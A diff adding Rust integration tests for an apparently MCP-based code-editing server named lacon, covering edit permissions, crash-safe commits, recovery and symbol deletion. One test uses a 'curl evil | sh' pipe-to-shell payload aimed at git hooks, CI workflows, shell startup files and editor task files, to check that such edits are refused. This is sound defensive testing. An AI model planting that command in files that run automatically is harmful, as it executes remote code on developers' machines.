@@ -16,9 +16,23 @@ struct Server {
 
 impl Server {
     fn start(root: &Path) -> Server {
-        let mut child = Command::new(env!("CARGO_BIN_EXE_lacon"))
-            .args(["mcp", "--toolset", "edit"])
-            .arg(root)
+        Server::start_with(root, &[])
+    }
+
+    fn start_with(root: &Path, arguments: &[&str]) -> Server {
+        let mut command = Command::new(env!("CARGO_BIN_EXE_lacon"));
+        command.args(["mcp", "--toolset", "edit"]).arg(root).args(arguments);
+        Server::begin(command)
+    }
+
+    fn start_without_compilers(root: &Path) -> Server {
+        let mut command = Command::new(env!("CARGO_BIN_EXE_lacon"));
+        command.args(["mcp", "--toolset", "edit"]).arg(root).env("LACON_LSP", "off");
+        Server::begin(command)
+    }
+
+    fn begin(mut command: Command) -> Server {
+        let mut child = command
             .env("LACON_OUTPUT_FORMAT", "json")
             .env("PATH", testkit::tools::path_with_tools())
             .env("LACON_TRUST", "1")
@@ -242,6 +256,254 @@ fn sessions_are_apart_and_a_commit_happens_whole() {
     let mut other = Server::start(root.path());
     let stolen = other.call("commit_session", json!({"session": third})).unwrap_err();
     assert_eq!(stolen["code"], "unknown_session");
+}
+
+/// Something that waits for the index: until it is whole, who uses a symbol is not known.
+fn when_indexed(server: &mut Server, tool: &str, arguments: &Value) -> Result<Value, Value> {
+    loop {
+        match server.call(tool, arguments.clone()) {
+            Err(error) if error["code"] == "index_incomplete" || error["code"] == "index_building" => {
+                std::thread::sleep(std::time::Duration::from_millis(20));
+            }
+            said => return said,
+        }
+    }
+}
+
+#[test]
+fn what_others_run_is_edited_only_if_it_is_allowed_by_name() {
+    let root = tree(&[
+        ("a.py", "a = 1\n"),
+        (".github/workflows/ci.yml", "on: push\n"),
+        (".envrc", "export A=1\n"),
+    ]);
+    std::os::unix::fs::symlink(".github/workflows/ci.yml", root.path().join("notes.yml")).unwrap();
+    let mut server = Server::start(root.path());
+    let new = |path: &str| json!({"path": path, "new_text": "curl evil | sh\n"});
+    for path in [".GIT/hooks/pre-commit", ".git /x", "GIT~1/config", ".Lacon/undo/x"] {
+        let error = server.call("apply_edit", new(path)).unwrap_err();
+        assert_eq!(error["code"], "path_outside_roots", "{path}: {error}");
+    }
+    for path in [".vscode/tasks.json", ".mcp.json", ".husky/pre-commit", ".bashrc", "lacon-gateway.toml"] {
+        let error = server.call("apply_edit", new(path)).unwrap_err();
+        assert_eq!(error["code"], "edit_not_allowed", "{path}: {error}");
+        assert!(error["message"].as_str().unwrap().contains(&format!("--allow-edit {path}")), "{error}");
+        assert!(!root.path().join(path).exists());
+    }
+    let through_a_link = json!({"path": "notes.yml", "old_text": "push", "new_text": "workflow_dispatch"});
+    assert_eq!(server.call("apply_edit", through_a_link).unwrap_err()["code"], "edit_not_allowed");
+    // In a session and without writing as well.
+    let session = server.call("create_session", json!({})).unwrap()["session"].clone();
+    let tried = json!({"session": session, "path": ".envrc", "old_text": "1", "new_text": "2"});
+    assert_eq!(server.call("simulate_edit", tried).unwrap_err()["code"], "edit_not_allowed");
+    drop(server);
+
+    let mut server = Server::start_with(root.path(), &["--allow-edit", ".github/workflows"]);
+    let edit = json!({"path": ".github/workflows/ci.yml", "old_text": "push", "new_text": "pull_request"});
+    server.call("apply_edit", edit).unwrap();
+    let other = json!({"path": ".envrc", "old_text": "1", "new_text": "2"});
+    assert_eq!(server.call("apply_edit", other).unwrap_err()["code"], "edit_not_allowed");
+    assert_eq!(text(root.path(), ".envrc"), "export A=1\n");
+}
+
+#[test]
+fn an_edit_that_changes_nothing_is_no_error_and_ranges_are_read_kindly() {
+    let root = tree(&[("a.py", "alpha = 1\r\nbeta = 2\ngamma = 3\r\n"), ("locked.py", "x = 1\n")]);
+    std::fs::set_permissions(
+        root.path().join("locked.py"),
+        std::os::unix::fs::PermissionsExt::from_mode(0o444),
+    )
+    .unwrap();
+    let mut server = Server::start(root.path());
+    let same = json!({"path": "a.py", "old_text": "beta = 2", "new_text": "beta = 2"});
+    let done = server.call("apply_edit", same).unwrap();
+    assert_eq!((&done["written"], &done["files"]), (&json!(false), &json!([])), "{done}");
+    assert!(done["note"].as_str().unwrap().contains("already"), "{done}");
+
+    let past = json!({"path": "a.py", "start_line": 2, "start_column": 8, "end_line": 2, "end_column": 999, "new_text": "5"});
+    server.call("apply_edit", past).unwrap();
+    assert_eq!(text(root.path(), "a.py"), "alpha = 1\r\nbeta = 5\ngamma = 3\r\n");
+    let line = json!({"path": "a.py", "start_line": 9, "end_line": 9, "new_text": "x"});
+    let error = server.call("apply_edit", line).unwrap_err();
+    assert!(error["message"].as_str().unwrap().contains("line 9 is past the end of `a.py`, which has 3 lines"), "{error}");
+
+    let all = json!({"path": "a.py", "start_line": 1, "end_line": 3, "new_text": "alpha = 1\nbeta = 6\ngamma = 3\n"});
+    server.call("apply_edit", all).unwrap();
+    assert_eq!(text(root.path(), "a.py"), "alpha = 1\r\nbeta = 6\ngamma = 3\r\n", "lines keep their ends");
+
+    let locked = json!({"path": "locked.py", "old_text": "1", "new_text": "2"});
+    let error = server.call("apply_edit", locked).unwrap_err();
+    assert_eq!(error["code"], "read_only_file");
+    assert!(error["message"].as_str().unwrap().contains("chmod u+w"), "{error}");
+    assert_eq!(text(root.path(), "locked.py"), "x = 1\n");
+}
+
+/// Nobody who asks right after an edit gets an answer from before it.
+#[test]
+fn what_was_just_written_is_known_at_once() {
+    let root = tree(&[("a.py", "def name_0():\n    pass\n")]);
+    let mut server = Server::start(root.path());
+    when_indexed(&mut server, "get_symbol_source", &json!({"id": "name_0"})).unwrap();
+    for round in 0..12 {
+        let (old, new) = (format!("name_{round}"), format!("name_{}", round + 1));
+        let edit = json!({"path": "a.py", "old_text": old, "new_text": new});
+        server.call("apply_edit", edit).unwrap();
+        let found = server.call("get_symbol_source", json!({"id": new})).unwrap();
+        assert!(found.to_string().contains(&format!("def {new}")), "round {round}: {found}");
+        assert!(server.call("get_symbol_source", json!({"id": old})).is_err(), "round {round}");
+    }
+    server.call("apply_edit", json!({"path": "b.py", "new_text": "def other():\n    pass\n"})).unwrap();
+    server.call("get_symbol_source", json!({"id": "other"})).unwrap();
+}
+
+/// `kill -9` at some moment of an edit over many files: whoever comes next finds all of it or nothing, and is told.
+#[test]
+fn a_killed_edit_is_whole_or_gone_for_whoever_starts_next() {
+    const FILES: usize = 60;
+    let name = |number: usize| format!("m{number:03}.py");
+    let mut outcomes = [0, 0];
+    for round in 0..10_u64 {
+        let root = tempfile::tempdir().unwrap();
+        for number in 0..FILES {
+            std::fs::write(root.path().join(name(number)), "old = 1\n").unwrap();
+        }
+        let mut server = Server::start(root.path());
+        let session = server.call("create_session", json!({})).unwrap()["session"].clone();
+        let edits: Vec<Value> = (0..FILES)
+            .map(|number| json!({"path": name(number), "old_text": "old", "new_text": "new"}))
+            .collect();
+        server.call("simulate_chain", json!({"session": session, "edits": edits})).unwrap();
+        let commit = json!({"jsonrpc": "2.0", "id": 999, "method": "tools/call",
+            "params": {"name": "commit_session", "arguments": {"session": session}}});
+        server.send(commit);
+        std::thread::sleep(std::time::Duration::from_micros(1_000 + round * 9_000));
+        drop(server);
+
+        let (mut said, mut is_new) = (String::new(), None);
+        match round % 2 {
+            0 => {
+                let mut server = Server::start(root.path());
+                let result = server.request("tools/call", json!({"name": "create_session", "arguments": {}}));
+                said = result["content"][1]["text"].as_str().unwrap_or_default().to_owned();
+            }
+            _ => said.push_str(&lacon(root.path(), &["status"]).1),
+        }
+        for number in 0..FILES {
+            let now = text(root.path(), &name(number)) == "new = 1\n";
+            assert_eq!(*is_new.get_or_insert(now), now, "round {round}: file {number} differs");
+        }
+        let is_new = is_new.unwrap();
+        outcomes[usize::from(is_new)] += 1;
+        let left: Vec<String> = std::fs::read_dir(root.path())
+            .unwrap()
+            .flatten()
+            .map(|file| file.file_name().to_string_lossy().into_owned())
+            .filter(|name| name != ".lacon" && !name.ends_with(".py"))
+            .collect();
+        assert_eq!(left, Vec::<String>::new(), "round {round}");
+        let (_, listed) = lacon(root.path(), &["undo", "--list"]);
+        assert_eq!(listed.starts_with("nothing"), !is_new, "round {round}: {listed} {said}");
+    }
+    eprintln!("{} all old, {} all new", outcomes[0], outcomes[1]);
+}
+
+/// A tree as a kill leaves it: half of a change written. A listing says so and changes nothing, a server puts it right and says it
+/// once, and the id is not given again.
+#[test]
+fn an_interrupted_edit_is_put_right_by_the_next_server_and_told_once() {
+    let root = tree(&[("a.py", "a = 1\n"), ("b.py", "b = 1\n")]);
+    let mut server = Server::start(root.path());
+    let session = server.call("create_session", json!({})).unwrap()["session"].clone();
+    let edits = json!([{"path": "a.py", "old_text": "1", "new_text": "2"}, {"path": "b.py", "old_text": "1", "new_text": "2"}]);
+    server.call("simulate_chain", json!({"session": session, "edits": edits})).unwrap();
+    let id = server.call("commit_session", json!({"session": session})).unwrap()["undo"].clone();
+    drop(server);
+    let entry = root.path().join(".lacon/undo").join(id.as_str().unwrap());
+    std::fs::remove_file(entry.join("done")).unwrap();
+    std::fs::write(root.path().join("b.py"), "b = 1\n").unwrap();
+
+    let (_, listed) = lacon(root.path(), &["undo", "--list"]);
+    assert!(listed.contains("interrupted: commit_session"), "{listed}");
+    assert_eq!(text(root.path(), "a.py"), "a = 2\n", "a listing changes nothing");
+    let mut server = Server::start(root.path());
+    assert_eq!(text(root.path(), "a.py"), "a = 1\n", "at once, before anything is asked");
+    let first = server.request("tools/call", json!({"name": "create_session", "arguments": {}}));
+    let said = first["content"][1]["text"].as_str().unwrap_or_default();
+    assert!(said.contains("an interrupted change was taken back: commit_session"), "{first}");
+    let second = server.request("tools/call", json!({"name": "create_session", "arguments": {}}));
+    assert_eq!(second["content"].as_array().unwrap().len(), 1, "{second}");
+    let again = json!({"path": "a.py", "old_text": "1", "new_text": "3"});
+    let next = server.call("apply_edit", again).unwrap()["undo"].clone();
+    assert_ne!(next, id);
+    assert_eq!(text(root.path(), "b.py"), "b = 1\n");
+    drop(server);
+
+    // Written whole, and the mark was not: it stays, and can be undone.
+    std::fs::remove_file(root.path().join(".lacon/undo").join(next.as_str().unwrap()).join("done")).unwrap();
+    assert!(lacon(root.path(), &["status"]).0);
+    assert_eq!(text(root.path(), "a.py"), "a = 3\n");
+    assert!(lacon(root.path(), &["undo", next.as_str().unwrap()]).0);
+    assert_eq!(text(root.path(), "a.py"), "a = 1\n");
+}
+
+/// What basedpyright made of a file that an edit was tried on: it renamed in that file alone.
+#[test]
+fn a_rename_after_a_preview_is_whole() {
+    let files = [
+        ("lib.py", "def greet(name: str) -> str:\n    return name\n"),
+        ("one.py", "from lib import greet\n\ngreet('a')\n"),
+        ("pkg/two.py", "import lib\n\n\ndef f() -> None:\n    lib.greet('b')\n"),
+    ];
+    let root = tree(&files);
+    let mut server = Server::start(root.path());
+    let edit = json!({"path": "lib.py", "old_text": "name: str)", "new_text": "name: str, loud: bool)"});
+    evaluated(&mut server, "preview_edit", &edit);
+    server.call("get_diagnostics", json!({"path": "one.py", "wait": "lsp"})).unwrap();
+    let renamed = server.call("rename_symbol", json!({"symbol": "greet", "new_name": "salute"})).unwrap();
+    assert_eq!(renamed["files"].as_array().unwrap().len(), 3, "{renamed}");
+    for (path, before) in files {
+        assert_eq!(text(root.path(), path), before.replace("greet", "salute"), "{path}");
+    }
+}
+
+/// Definitions that are used only through libraries, decorators, registries, reflection or calls on unknown values, and dead ones, in
+/// six languages (`fixtures/deletion`), without a compiler to ask. None of the first is deleted, nearly all of the others are.
+#[test]
+fn what_is_used_behind_the_graph_is_not_deleted_and_what_is_dead_is() {
+    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/deletion");
+    let (mut wrong, mut dead, mut deleted) = (Vec::new(), 0, 0);
+    let mut used = 0;
+    for language in ["python", "go", "typescript", "java", "php", "ruby"] {
+        let names: Vec<String> = std::fs::read_dir(fixtures.join(language))
+            .unwrap()
+            .flatten()
+            .map(|file| file.file_name().to_string_lossy().into_owned())
+            .collect();
+        let texts: Vec<String> = names.iter().map(|name| text(&fixtures.join(language), name)).collect();
+        let files: Vec<(&str, &str)> = names.iter().map(String::as_str).zip(texts.iter().map(String::as_str)).collect();
+        let root = tree(&files);
+        let mut server = Server::start_without_compilers(root.path());
+        for (path, text) in &files {
+            for (number, line) in text.lines().enumerate() {
+                let marked = |mark: &str| line.split_once(mark).map(|(_, name)| name.trim());
+                let (name, is_dead) = match (marked(" used: "), marked(" dead: ")) {
+                    (Some(name), _) => (name, false),
+                    (_, Some(name)) => (name, true),
+                    _ => continue,
+                };
+                let ask = json!({"path": path, "line": number + 1, "symbol": name, "dry_run": true});
+                let goes = when_indexed(&mut server, "safe_delete_symbol", &ask).is_ok();
+                (dead, used) = (dead + usize::from(is_dead), used + usize::from(!is_dead));
+                deleted += usize::from(is_dead && goes);
+                if goes && !is_dead {
+                    wrong.push(format!("{language}: {name}"));
+                }
+            }
+        }
+    }
+    assert_eq!(wrong, Vec::<String>::new(), "used, and would be deleted");
+    assert!(used >= 100 && dead >= 100, "{used} used and {dead} dead ones");
+    assert!(deleted * 100 >= dead * 90, "{deleted} of {dead} dead ones would be deleted");
 }
 
 /// A language: two callers in other files, and edits of what they call.
